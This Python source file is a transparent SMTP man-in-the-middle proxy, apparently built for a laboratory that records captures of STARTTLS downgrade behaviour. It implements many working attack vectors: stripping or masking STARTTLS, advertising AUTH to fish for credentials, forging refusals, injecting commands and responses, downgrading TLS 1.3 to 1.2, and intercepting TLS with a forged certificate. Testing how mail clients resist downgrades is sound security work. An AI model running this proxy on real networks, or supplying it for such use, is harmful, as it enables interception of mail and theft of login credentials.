#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A man in the middle for SMTP, for the laboratory that makes the captures.

It runs in a network namespace between a client and a server and takes the TCP
connections of the mail ports over transparently: the client sees the server's
address and the server sees the client's address and port. The routes that this
needs are laid by netlab.py (`ip rule iif`, `ip route local`); the sockets need
CAP_NET_ADMIN in the namespace (IP_TRANSPARENT).

	stripproxy.py --vector strip --port 25 --port 587

One vector is active at a time; `--list` names them all. A vector rewrites whole
commands, whole replies, or whole TLS records; message bodies pass untouched.
`--control FILE`: the name of the vector is read from FILE for each new
connection, so that a vector can be switched on between two sessions.
`--only ADDRESS`: the vector meets that client alone, everybody else passes.
"""

import argparse
import os
import selectors
import socket
import ssl
import struct
import sys
import threading

IP_TRANSPARENT = 19
IPV6_TRANSPARENT = 75

TLS_HANDSHAKE = 22
TLS_APPLICATION_DATA = 23
CLIENT_HELLO = 1


class Cut(Exception):
	"""The vector ends the connection; argument: reset it (RST) or close it (FIN)."""


# ---------------------------------------------------------------------------
# Vectors

class Vector:
	"""Passes everything. A vector overrides what it tampers with."""

	def command(self, session, verb, line):
		"""A client's command line. Returns what goes on to the server (b"" keeps it
		back; session.answer() then speaks to the client in the server's place)."""
		return line

	def reply(self, session, verb, lines):
		"""A whole reply, line by line with line ends; verb is the command that it
		answers, b"" for the greeting. Returns the lines that go on to the client."""
		return lines

	def record(self, session, from_client, record):
		"""A whole TLS record after the upgrade. Returns the bytes that go on."""
		return record


def keyword(line):
	return line[4:].split()[0].upper() if line[4:].split() else b""


def terminate(lines):
	"""Make the last line of a multi-line reply its last: `250-` to `250 `."""
	if lines:
		lines[-1] = lines[-1][:3] + b" " + lines[-1][4:]
	return lines


def replace_keyword(lines, old, new):
	return [line if keyword(line) != old else line[:4] + new + line[4 + len(old):] for line in lines]


class Strip(Vector):
	"""STARTTLS taken out of the capabilities."""

	def reply(self, session, verb, lines):
		if verb == b"EHLO":
			return terminate([l for l in lines if keyword(l) != b"STARTTLS"])
		return lines


class StripAddAuth(Strip):
	"""STARTTLS taken out, AUTH put in: fishing for credentials."""

	def reply(self, session, verb, lines):
		lines = super().reply(session, verb, lines)
		if verb == b"EHLO" and not any(keyword(l) == b"AUTH" for l in lines):
			lines = terminate(lines[:-1] + [lines[-1][:3] + b"-" + lines[-1][4:], b"250 AUTH PLAIN LOGIN\r\n"])
		return lines


class MaskKeyword(Vector):
	"""The offer overwritten at its own length."""

	mask = b"XXXXXXXX"

	def reply(self, session, verb, lines):
		return replace_keyword(lines, b"STARTTLS", self.mask) if verb == b"EHLO" else lines


class MaskKeywordA(MaskKeyword):
	mask = b"XXXXXXXA"


class MaskKeywordStars(MaskKeyword):
	mask = b"********"


class StartFoo(MaskKeyword):
	"""A flipped keyword that no shape gives away."""

	mask = b"STARTFOO"


class CiscoInspection(Vector):
	"""What ESMTP inspection of Cisco PIX/ASA does with its default map: a banner of
	asterisks in which 2 and 0 survive, X's over every keyword it does not know, X's
	over the client's commands that it does not know. All at the same length."""

	allowed_keywords = {b"SIZE", b"8BITMIME", b"AUTH", b"DSN", b"ETRN", b"ENHANCEDSTATUSCODES", b"HELP"}
	allowed_commands = {b"AUTH", b"DATA", b"EHLO", b"ETRN", b"HELO", b"HELP", b"MAIL", b"NOOP", b"QUIT",
		b"RCPT", b"RSET", b"SAML", b"SEND", b"SOML", b"VRFY"}

	def reply(self, session, verb, lines):
		if verb == b"":
			return [line[:4] + bytes(c if c in b"20\r\n" else ord("*") for c in line[4:]) for line in lines]
		if verb == b"EHLO":
			masked = lines[:1]
			for line in lines[1:]:
				word = keyword(line)
				if word not in self.allowed_keywords:
					rest = line.rstrip(b"\r\n")[4:]
					line = line[:4] + b"X" * (len(rest) - 1) + b"A\r\n"
				masked.append(line)
			return masked
		return lines

	def command(self, session, verb, line):
		if verb in self.allowed_commands:
			return line
		return b"X" * len(line.rstrip(b"\r\n")) + b"\r\n"


class MaskCommand(Vector):
	"""The offer passes, the command is overwritten."""

	def command(self, session, verb, line):
		return b"XXXXXXXX\r\n" if verb == b"STARTTLS" else line


class CommandFoo(Vector):
	"""The command flipped in transit: STARTFOO."""

	def command(self, session, verb, line):
		return b"STARTFOO\r\n" if verb == b"STARTTLS" else line


class Refuse(Vector):
	"""STARTTLS answered in the server's place; the server never hears of it."""

	def __init__(self, text):
		self.text = text

	def command(self, session, verb, line):
		if verb == b"STARTTLS":
			session.answer(self.text + b"\r\n")
			return b""
		return line


class StripTls200(Refuse):
	"""striptls' StripWithInvalidResponseCode: adds the offer, then answers 200."""

	def __init__(self):
		super().__init__(b"200 STRIPTLS")

	def reply(self, session, verb, lines):
		if verb == b"EHLO" and not any(keyword(l) == b"STARTTLS" for l in lines):
			lines = terminate(lines[:-1] + [lines[-1][:3] + b"-" + lines[-1][4:], b"250 STARTTLS\r\n"])
		return lines


class RefuseEhlo(Vector):
	"""ProtocolDowngradeStripExtendedMode: EHLO is refused, HELO passes."""

	def command(self, session, verb, line):
		if verb == b"EHLO":
			session.answer(b'502 Error: command "EHLO" not implemented\r\n')
			return b""
		return line


class InjectCommand(Vector):
	"""More than STARTTLS in the segment that asks for it."""

	def __init__(self, extra):
		self.extra = extra

	def command(self, session, verb, line):
		return line + self.extra if verb == b"STARTTLS" else line


class InjectResponse(Vector):
	"""More than the 220 in the segment that grants it."""

	def reply(self, session, verb, lines):
		if verb == b"STARTTLS" and lines[-1].startswith(b"220"):
			return lines + [b"250-mx.example.test\r\n", b"250 AUTH LOGIN\r\n"]
		return lines


class CutAtStarttls(Vector):
	"""The connection ends when STARTTLS is asked for."""

	def __init__(self, reset):
		self.reset = reset

	def command(self, session, verb, line):
		if verb == b"STARTTLS":
			raise Cut(self.reset)
		return line


class CutAtClientHello(Vector):
	def record(self, session, from_client, record):
		if from_client and record[0] == TLS_HANDSHAKE:
			raise Cut(True)
		return record


class DropHandshake(Vector):
	"""Everything after the 220 disappears; the client runs into its timeout."""

	def record(self, session, from_client, record):
		return b""


class ReplaceServerHello(Vector):
	"""The ServerHello becomes a reply in the clear."""

	def record(self, session, from_client, record):
		if not from_client:
			if session.notes.get("replaced"):
				return b""
			session.notes["replaced"] = True
			return b"454 4.7.0 TLS not available due to temporary reason\r\n"
		return record


class ReplaceApplicationData(Vector):
	"""A protected record of the server becomes a reply in the clear, once the
	client's own protected records show that the handshake is over."""

	def record(self, session, from_client, record):
		if from_client:
			if record[0] == TLS_APPLICATION_DATA and record[1:3] == b"\x03\x03":
				session.notes["client records"] = session.notes.get("client records", 0) + 1
			return record
		if session.notes.get("replaced"):
			return b""
		# The first record of the client is its Finished, the second its EHLO.
		if record[0] == TLS_APPLICATION_DATA and session.notes.get("client records", 0) >= 2:
			session.notes["replaced"] = True
			return b"454 4.7.0 TLS not available due to temporary reason\r\n"
		return record


class LowerVersion(Vector):
	"""TLS 1.3 (0x0304) in the ClientHello's supported_versions becomes 1.2, at the
	same length: the server answers 1.2 and, knowing 1.3, writes the downgrade
	sentinel of RFC 8446 section 4.1.3 into its random."""

	def record(self, session, from_client, record):
		if not from_client or record[0] != TLS_HANDSHAKE or record[5] != CLIENT_HELLO:
			return record
		data = bytearray(record)
		at = 5 + 4 + 2 + 32
		at += 1 + data[at]
		at += 2 + struct.unpack_from("!H", data, at)[0]
		at += 1 + data[at]
		end = at + 2 + struct.unpack_from("!H", data, at)[0]
		at += 2
		while at + 4 <= end:
			kind, length = struct.unpack_from("!HH", data, at)
			if kind == 43:
				for i in range(at + 5, at + 4 + length, 2):
					if data[i:i + 2] == b"\x03\x04":
						data[i:i + 2] = b"\x03\x03"
			at += 4 + length
		return bytes(data)


class Intercept(Vector):
	"""TLS towards both sides, with a certificate of the proxy's own making."""

	terminates_client_tls = True
	terminates_server_tls = True


class InboundProxy(Strip):
	"""TLS on one side only: the client is stripped, the server is spoken TLS to."""

	terminates_client_tls = False
	terminates_server_tls = True


VECTORS = {
	"none": Vector,
	"strip": Strip,
	"strip-add-auth": StripAddAuth,
	"mask-x": MaskKeyword,
	"mask-xa": MaskKeywordA,
	"mask-stars": MaskKeywordStars,
	"mask-cisco": CiscoInspection,
	"mask-command": MaskCommand,
	"startfoo": StartFoo,
	"startfoo-command": CommandFoo,
	"refuse-200": StripTls200,
	"refuse-354": lambda: Refuse(b"354 End data with <CR><LF>.<CR><LF>"),
	"refuse-421": lambda: Refuse(b"421 4.3.2 Service shutting down"),
	"refuse-454": lambda: Refuse(b"454 TLS not available due to temporary reason"),
	"refuse-500": lambda: Refuse(b"500 #5.5.1 command not recognized"),
	"refuse-501": lambda: Refuse(b"501 Syntax error"),
	"refuse-502": lambda: Refuse(b"502 5.5.2 Error: command not recognized"),
	"refuse-530": lambda: Refuse(b"530 5.7.0 Must not issue a STARTTLS command"),
	"refuse-norton": lambda: Refuse(b"500 Unsupported command."),
	"refuse-ehlo": RefuseEhlo,
	"inject-rset": lambda: InjectCommand(b"RSET\r\n"),
	"inject-mail": lambda: InjectCommand(b"MAIL FROM:<injected@example.test>\r\n"),
	"inject-response": InjectResponse,
	"close-starttls": lambda: CutAtStarttls(False),
	"reset-starttls": lambda: CutAtStarttls(True),
	"reset-clienthello": CutAtClientHello,
	"drop-handshake": DropHandshake,
	"replace-serverhello": ReplaceServerHello,
	"replace-appdata": ReplaceApplicationData,
	"lower-version": LowerVersion,
	"intercept": Intercept,
	"inbound-proxy": InboundProxy,
}


# ---------------------------------------------------------------------------
# One connection

class Session:
	"""Relays one connection, line by line until the upgrade, record by record after."""

	def __init__(self, client, server, vector, forged):
		self.client, self.server, self.vector, self.forged = client, server, vector, forged
		self.notes = {}
		self.pending = [b""]		# commands that wait for their reply; the greeting first
		self.from_client, self.from_server = bytearray(), bytearray()
		self.reply_lines = []
		self.to_client = bytearray()
		self.body = None		# None: commands; -1: DATA until its dot; n: n octets of BDAT
		self.tls = False
		self.opaque = False

	def answer(self, text):
		self.to_client += text

	def client_bytes(self, data):
		"""Returns what goes to the server for these bytes of the client."""
		self.from_client += data
		out = bytearray()
		while self.from_client:
			if self.opaque:
				out += self.from_client
				self.from_client.clear()
				break
			if self.tls:
				record = take_record(self.from_client)
				if record is None:
					break
				out += self.vector.record(self, True, record)
				continue
			if isinstance(self.body, int) and self.body >= 0:
				n = min(self.body, len(self.from_client))
				out += self.from_client[:n]
				del self.from_client[:n]
				self.body -= n
				if self.body == 0:
					self.body = None
				continue
			line = take_line(self.from_client)
			if line is None:
				break
			if self.body == -1:
				out += line
				if line in (b".\r\n", b".\n"):
					self.body = None
					self.pending.append(b"BODY")
				continue
			if self.notes.get("auth") and self.pending == []:
				out += line
				self.pending.append(b"AUTH")
				continue
			words = line.split()
			verb = words[0].upper() if words else b""
			passed = self.vector.command(self, verb, line)
			if not passed:
				continue
			out += passed
			# Whatever the vector made of it, one reply is due for each line.
			for n, _ in enumerate(passed.splitlines()):
				self.pending.append(verb if n == 0 else b"INJECTED")
			if verb == b"BDAT" and len(words) > 1:
				self.body = int(words[1]) or None
		return bytes(out)

	def server_bytes(self, data):
		"""Puts what goes to the client for these bytes of the server into to_client."""
		self.from_server += data
		while self.from_server:
			if self.opaque:
				self.to_client += self.from_server
				self.from_server.clear()
				break
			if self.tls:
				record = take_record(self.from_server)
				if record is None:
					break
				self.to_client += self.vector.record(self, False, record)
				continue
			line = take_line(self.from_server)
			if line is None:
				break
			self.reply_lines.append(line)
			if line[3:4] == b"-":
				continue
			lines, self.reply_lines = self.reply_lines, []
			verb = self.pending.pop(0) if self.pending else b"UNASKED"
			code = lines[-1][:3]
			if verb == b"DATA" and code == b"354":
				self.body = -1
			self.notes["auth"] = verb == b"AUTH" and code == b"334"
			for out in self.vector.reply(self, verb, lines):
				self.to_client += out
			if verb == b"STARTTLS" and code == b"220":
				self.tls = True
				self.pending.clear()

	def flush(self):
		if self.to_client:
			self.client.sendall(self.to_client)
			self.to_client.clear()

	def run(self):
		selector = selectors.DefaultSelector()
		selector.register(self.client, selectors.EVENT_READ)
		selector.register(self.server, selectors.EVENT_READ)
		open_sides = {self.client, self.server}
		try:
			while open_sides:
				for key, _ in selector.select(timeout=120):
					side = key.fileobj
					try:
						data = side.recv(65536)
						# What OpenSSL holds ready does not show in select().
						while data and isinstance(side, ssl.SSLSocket) and side.pending():
							data += side.recv(65536)
					except ssl.SSLWantReadError:
						continue		# a session ticket, say
					except OSError:
						raise Cut(True) from None
					if not data:
						selector.unregister(side)
						open_sides.discard(side)
						other = self.server if side is self.client else self.client
						try:
							other.shutdown(socket.SHUT_WR)
						except OSError:
							pass
						continue
					if side is self.client:
						out = self.client_bytes(data)
						if out:
							self.server.sendall(out)
					else:
						self.server_bytes(data)
					self.flush()
					if self.tls and not self.opaque and getattr(self.vector, "terminates_client_tls", False):
						selector.unregister(self.client)
						selector.unregister(self.server)
						self.intercept()
						open_sides = {self.client, self.server}
						selector.register(self.client, selectors.EVENT_READ)
						selector.register(self.server, selectors.EVENT_READ)
		except Cut as cut:
			if cut.args[0]:
				for side in (self.client, self.server):
					side.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
		except OSError:
			pass
		finally:
			self.client.close()
			self.server.close()

	def intercept(self):
		"""Both handshakes: ours with the server first, then the client's with us."""
		outward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
		outward.check_hostname = False
		outward.verify_mode = ssl.CERT_NONE
		inward = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
		inward.load_cert_chain(self.forged)
		if self.notes.get("tls12"):
			inward.maximum_version = ssl.TLSVersion.TLSv1_2
		self.server = outward.wrap_socket(self.server)
		self.client = inward.wrap_socket(self.client, server_side=True)
		for side in (self.client, self.server):
			side.setblocking(False)
		self.tls = False
		self.pending = []
		self.opaque = True

	def upgrade_server(self):
		"""InboundProxy: greet the server ourselves, go up to TLS with it, and start the
		client on a session whose greeting is the server's own."""
		self.server.settimeout(30)
		stream = self.server.makefile("rb")
		greeting = read_reply(stream)
		self.server.sendall(b"EHLO proxy.example.test\r\n")
		read_reply(stream)
		self.server.sendall(b"STARTTLS\r\n")
		read_reply(stream)
		outward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
		outward.check_hostname = False
		outward.verify_mode = ssl.CERT_NONE
		self.server = outward.wrap_socket(self.server)
		self.server.setblocking(False)
		self.pending = []
		self.client.sendall(greeting)


def read_reply(stream):
	out = b""
	while True:
		line = stream.readline()
		out += line
		if not line or line[3:4] != b"-":
			return out


def take_line(buffer):
	end = buffer.find(b"\n")
	if end < 0:
		return None
	line = bytes(buffer[:end + 1])
	del buffer[:end + 1]
	return line


def take_record(buffer):
	if len(buffer) < 5:
		return None
	if buffer[0] not in range(20, 25):
		out = bytes(buffer)		# no TLS: passes as it is
		buffer.clear()
		return out
	length = 5 + struct.unpack_from("!H", buffer, 3)[0]
	if len(buffer) < length:
		return None
	record = bytes(buffer[:length])
	del buffer[:length]
	return record


# ---------------------------------------------------------------------------
# Listening

def transparent(family):
	sock = socket.socket(family, socket.SOCK_STREAM)
	sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
	if family == socket.AF_INET6:
		sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
		sock.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
	else:
		sock.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
	return sock


def serve(client, options):
	target, source = client.getsockname(), client.getpeername()
	name = options.vector
	if options.control and os.path.exists(options.control):
		with open(options.control, encoding="ascii") as control:
			name = control.read().strip() or name
	if options.only and source[0] not in options.only:
		name = "none"
	server = transparent(client.family)
	for sock in (client, server):
		sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
	try:
		server.bind(source[:2])
		server.connect(target[:2])
	except OSError as error:
		print(f"stripproxy: {target}: {error}", file=sys.stderr, flush=True)
		client.close()
		server.close()
		return
	session = Session(client, server, VECTORS[name](), options.forged)
	if options.tls12:
		session.notes["tls12"] = True
	if getattr(session.vector, "terminates_server_tls", False) and \
			not getattr(session.vector, "terminates_client_tls", False):
		session.upgrade_server()
	session.run()


def main():
	parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
	parser.add_argument("--vector", default="none", choices=VECTORS)
	parser.add_argument("--control", help="file that names the vector for the next connection")
	parser.add_argument("--only", action="append", help="client address that the vector is for")
	parser.add_argument("--port", type=int, action="append")
	parser.add_argument("--forged", help="PEM with certificate and key for 'intercept'")
	parser.add_argument("--tls12", action="store_true", help="'intercept' offers the client TLS 1.2 at most")
	parser.add_argument("--list", action="store_true")
	options = parser.parse_args()
	if options.list:
		print("\n".join(VECTORS))
		return
	selector = selectors.DefaultSelector()
	for family in (socket.AF_INET, socket.AF_INET6):
		for port in options.port or [25]:
			listener = transparent(family)
			listener.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", port))
			listener.listen(64)
			selector.register(listener, selectors.EVENT_READ)
	print("stripproxy: ready", flush=True)
	while True:
		for key, _ in selector.select():
			client, _ = key.fileobj.accept()
			threading.Thread(target=serve, args=(client, options), daemon=True).start()


if __name__ == "__main__":
	main()
